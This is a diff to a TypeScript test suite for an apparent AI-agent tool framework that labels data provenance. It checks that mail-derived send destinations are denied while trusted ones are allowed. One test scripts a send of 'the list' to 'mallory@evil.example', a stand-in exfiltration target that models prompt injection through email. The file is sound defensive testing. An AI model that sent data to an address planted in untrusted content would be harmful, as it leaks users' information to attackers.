@@ -28,7 +28,7 @@ const contact = tool({
   execute: ({ name }) => ({ name, address: 'dora@firm.example' }),
 })
 
-/** What came of a script under a policy that denies what it would ask about. */
+/** The outcome of a script under a policy that denies where it would ask. */
 async function judged(
   source: string,
   first: readonly { name: string; input: unknown }[] = [],
@@ -65,8 +65,8 @@ function labelOf(messages: readonly Message[]): Label | undefined {
   return parts.find((part) => part.type === 'tool-result' && part.toolName === 'code_execute')?.label
 }
 
-describe('values keep where they came from inside a script', () => {
-  test('a destination out of a mail is stopped, however the script handles it', async () => {
+describe('values keep their provenance inside a script', () => {
+  test('a destination from a mail is denied, however the script transforms it', async () => {
     for (const way of [
       'mail.from',
       `mail.text.match(/\\S+@\\S+example/)[0]`,
@@ -78,7 +78,7 @@ return tools.send({ to: ${way}, body: 'the list' })`
     }
   })
 
-  test('one out of trusted data is not, nor one that stands in a script written before the mail was read', async () => {
+  test('a destination from trusted data is allowed, and so is one in a script that was written before the mail was read', async () => {
     const looked = `const mail = await tools.mail({ id: 'm-17' })
 const { address } = await tools.contact({ name: 'Dora' })
 return tools.send({ to: address, body: mail.text.slice(0, 10) })`
@@ -88,29 +88,29 @@ return tools.send({ to: 'office@firm.example', body: mail.text.slice(0, 10) })`
     expect((await judged(frozen)).sent).toEqual(['office@firm.example'])
   })
 
-  test('its values are what stands between quotes, not its code: an outsider may guess how that looks', async () => {
+  test('only string literals of a script count as its values, not its code, which an attacker can guess', async () => {
     const named = tool({
       name: 'post',
       effect: 'read',
       input: z.object({}),
       execute: () => ({ name: 'post.name', pick: 'office@firm.example', text: 'Hello.' }),
     })
-    // The code has `post.name`, which could be a host; nobody but the script said so.
+    // The code has `post.name`, which could be a host name, but only the script contains it.
     const guessed = `const post = await tools.post({})\nreturn tools.send({ to: post.name, body: 'the list' })`
     expect((await judged(guessed, [], [named])).sent).toEqual([])
-    // What equals a literal is what the script may use anyway: whoever names it gains the choice between our own values.
+    // A value that equals a literal is one the script may use anyway: an attacker gains only a choice between trusted values.
     const chosen = `const post = await tools.post({})
 const known = ['office@firm.example', 'shop@firm.example']
 return tools.send({ to: known.find((one) => one === post.pick), body: 'the list' })`
     expect((await judged(chosen, [], [named])).sent).toEqual(['office@firm.example'])
   })
 
-  test('but in a script that was written afterwards it may be the mail that speaks', async () => {
+  test('a literal in a script that was written after the mail was read may come from the mail', async () => {
     const source = `return tools.send({ to: 'mallory@evil.example', body: 'the list' })`
     expect((await judged(source, [{ name: 'mail', input: { id: 'm-17' } }])).sent).toEqual([])
   })
 
-  test('what is returned carries the label of all that was read', async () => {
+  test('the return value carries the joined label of all data that the script read', async () => {
     const read = await judged(`return (await tools.mail({ id: 'm-17' })).text.length`)
     expect(labelOf(read.messages)?.integrity).toBe('untrusted')
     const looked = await judged(`return (await tools.contact({ name: 'Dora' })).address`)
